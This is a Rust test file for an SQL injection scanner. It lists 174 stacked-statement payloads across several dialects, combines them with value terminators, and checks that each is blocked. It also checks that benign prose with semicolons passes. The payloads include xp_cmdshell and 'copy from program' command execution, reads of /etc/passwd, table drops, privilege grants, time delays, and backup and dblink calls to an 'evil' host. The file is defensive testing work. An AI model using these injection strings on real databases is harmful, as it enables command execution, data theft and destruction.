@@ -1,0 +1,246 @@
+//! A second statement behind a value, in every dialect.
+
+use axiom_sqli::{Category, Mode, scan};
+
+/// Statements that a value has no business to bring.
+const STATEMENTS: [&str; 174] = [
+    "alter login sa with password='x'",
+    "alter table users drop column a",
+    "alter user sa with password='x'",
+    "analyze table users",
+    "attach 'x.db' as x",
+    "attach database '/var/www/x.php' as x",
+    "audit select on users",
+    "backup database x to disk='\\\\evil\\x'",
+    "begin dbms_lock.sleep(5); end;",
+    "begin dbms_session.sleep(5); end;",
+    "begin execute immediate 'x'; end;",
+    "begin null; end;",
+    "begin transaction",
+    "begin user_lock.sleep(5); end;",
+    "begin waitfor delay '0:0:5' end",
+    "begin; commit",
+    "bulk insert x from 'c:\\x.txt'",
+    "call dbms_lock.sleep(5)",
+    "call proc",
+    "call proc()",
+    "call sleep(5)",
+    "change master to master_host='x'",
+    "close c",
+    "cluster users",
+    "comment on table users is 'x'",
+    "commit",
+    "copy (select 1) to program 'id'",
+    "copy cmd_exec from program 'id'",
+    "copy users from program 'id'",
+    "copy users to '/tmp/x'",
+    "create extension dblink",
+    "create function sys_eval returns string soname 'x.so'",
+    "create login eve with password='x'",
+    "create or replace function f() returns void as $$ begin end $$ language plpgsql",
+    "create table if not exists x(a int)",
+    "create table x(a int)",
+    "create temp table x(a text)",
+    "create trigger t after insert on u begin select 1; end",
+    "create user eve identified by 'x'",
+    "dbcc shrinkdatabase(x)",
+    "deallocate all",
+    "declare @d char(7) set @d='0:0:5' waitfor delay @d",
+    "declare @x as varchar(8000)",
+    "declare @x nvarchar(4000)=0x1234",
+    "declare @x varchar(8000); set @x=0x1234; exec(@x)",
+    "delete from users",
+    "delete from users where 1=1",
+    "delete users",
+    "desc users",
+    "describe users",
+    "discard all",
+    "do $$ begin perform 1; end $$",
+    "do pg_sleep(5)",
+    "do sleep(5)",
+    "drop database shop",
+    "drop function f",
+    "drop index i on t",
+    "drop procedure p",
+    "drop schema public cascade",
+    "drop table users",
+    "drop user bob",
+    "drop view v",
+    "exec master..xp_cmdshell 'dir'",
+    "exec master.dbo.xp_cmdshell 'dir'",
+    "exec sp_addlogin 'eve','x'",
+    "exec sp_configure 'show advanced options',1; reconfigure",
+    "exec xp_cmdshell 'dir'",
+    "exec xp_cmdshell('dir')",
+    "exec('waitfor delay ''0:0:5''')",
+    "exec('xp_cmdshell ''dir''')",
+    "exec(0x1234)",
+    "exec(@x)",
+    "execute immediate 'drop table users'",
+    "execute stmt",
+    "execute('select 1')",
+    "explain select 1",
+    "fetch next from c",
+    "flashback table users to before drop",
+    "flush tables",
+    "get diagnostics @a = row_count",
+    "goto x",
+    "grant all on users to eve",
+    "grant all privileges on *.* to 'eve'@'%'",
+    "grant dba to eve",
+    "handler users open",
+    "handler users open; handler users read first",
+    "if (1=1) waitfor delay '0:0:5'",
+    "if 1=1 waitfor delay '0:0:5'",
+    "if exists(select 1) drop table users",
+    "if not exists(select 1) select 1",
+    "if object_id('users') is not null drop table users",
+    "import table from 'x'",
+    "insert ignore into users values(1)",
+    "insert into openrowset('sqloledb','x','select 1') select 1",
+    "insert into users values(1,2)",
+    "insert into users(a,b) values(1,2)",
+    "insert or replace into users values(1)",
+    "insert users values (1,2)",
+    "install plugin x soname 'y'",
+    "install soname 'y'",
+    "kill 5",
+    "listen a",
+    "lo_import('/etc/passwd')",
+    "load data local infile '/etc/passwd' into table x",
+    "load xml infile '/etc/passwd' into table x",
+    "lock tables users write",
+    "merge into users using x on (1=1) when matched then update set a=1",
+    "merge users using x on 1=1 when matched then delete;",
+    "notify a,'b'",
+    "open c",
+    "openrowset('SQLOLEDB','x';'sa';'p','select 1')",
+    "optimize table users",
+    "perform pg_sleep(5)",
+    "pragma table_info(users)",
+    "pragma writable_schema=1",
+    "prepare s from 'select 1'",
+    "print 'a'",
+    "purge table users",
+    "raiserror('a',16,1)",
+    "reindex table users",
+    "rename table a to b",
+    "replace into users values(1)",
+    "reset master",
+    "restore database x from disk='x'",
+    "revoke all on users from bob",
+    "rollback",
+    "savepoint a",
+    "select * from users",
+    "select 1",
+    "select case when (1=1) then pg_sleep(5) else pg_sleep(0) end",
+    "select count(*) from generate_series(1,5000000)",
+    "select dblink_connect('host=evil')",
+    "select dbms_pipe.receive_message('a',5) from dual",
+    "select lo_export(1,'/tmp/x')",
+    "select lo_import('/etc/passwd')",
+    "select load_extension('x.so')",
+    "select password from users",
+    "select pg_sleep(5)",
+    "select pg_sleep(5) from pg_sleep(5)",
+    "select pg_sleep(5)-- -",
+    "select sleep(5)",
+    "set @x=0x1234;prepare s from @x;execute s",
+    "set @x=1",
+    "set global general_log=1",
+    "set password for 'root'@'localhost'='x'",
+    "show databases",
+    "show grants",
+    "show tables",
+    "shutdown",
+    "shutdown with nowait",
+    "signal sqlstate '45000'",
+    "sp_password 'a'",
+    "start transaction",
+    "stop slave",
+    "table users",
+    "throw 50000,'a',1",
+    "truncate table users",
+    "truncate users",
+    "update \"users\" set \"a\"=1",
+    "update [users] set [a]=1",
+    "update dbo.users set a=1",
+    "update users set a=1",
+    "update users set password='x' where name='admin'",
+    "use master",
+    "use master; exec xp_dirtree 'x'",
+    "vacuum",
+    "vacuum into '/tmp/x'",
+    "values row(1)",
+    "waitfor delay '0:0:5'",
+    "waitfor time '23:59'",
+    "while 1=1 begin end",
+    "with a as (delete from users returning *) select * from a",
+    "with a as (select 1) select * from a",
+    "xp_cmdshell 'dir'",
+];
+
+/// Where the host's value may end: bare, in a string, in parentheses.
+const ENDS: [&str; 8] = ["1;", "1; ", "x'; ", "x\"; ", "x'); ", "1)); ", "-1.5 ;\n", "x';/**/"];
+
+#[test]
+fn a_second_statement_is_blocked_wherever_the_value_ends() {
+    let mut passed = Vec::new();
+    for statement in STATEMENTS {
+        for end in ENDS {
+            for tail in ["", " --", ";#"] {
+                let input = format!("{end}{statement}{tail}");
+                if !scan(&input, Mode::Field).is_blocked() {
+                    passed.push(input);
+                }
+            }
+        }
+    }
+    assert!(passed.is_empty(), "{passed:#?}");
+}
+
+#[test]
+fn what_waits_says_so() {
+    for statement in STATEMENTS.iter().filter(|statement| statement.contains("sleep(")) {
+        let report = scan(format!("1; {statement}"), Mode::Field);
+        assert!(report.categories.contains(Category::TimeBlind), "{statement}: {}", report.explain());
+    }
+}
+
+/// What follows a semicolon in prose and in code.
+const PROSE: [&str; 24] = [
+    "Open the box; close the window; drop by tomorrow",
+    "Save your work; begin with the first page",
+    "He stayed; show me why",
+    "Stop; start again; call her",
+    "Check the list; table tennis is at six",
+    "Fixed a leak; update the change log",
+    "New function; call saved_append_1.",
+    "Prevent use of an uninitialised variable; commit",
+    "cast iron; select the size you like",
+    "int x = 1; if (x > 0) { x--; }",
+    "let a = 1; while (a < 3) { a += 1; }",
+    "a = 1; do { b(); } while (a);",
+    "cd build; make; make install",
+    "Content-Type: text/html; charset=utf-8",
+    "sid=31d4d96e407aad42; theme=dark; lang=en",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+    "width: 10px; height: 20px; display: none",
+    "Red; green; blue",
+    "one; two; rename three",
+    "Meeting moved; notify the others, please",
+    "We lock the doors; prepare for the night",
+    "Read first; comment on the table later",
+    "values; or what we take for them",
+    "Select one; or none",
+];
+
+#[test]
+fn semicolons_of_prose_and_code_pass() {
+    for text in PROSE {
+        for mode in [Mode::Field, Mode::Prompt] {
+            let report = scan(text, mode);
+            assert!(!report.is_blocked(), "{text}: {}", report.explain());
+        }
+    }
+}
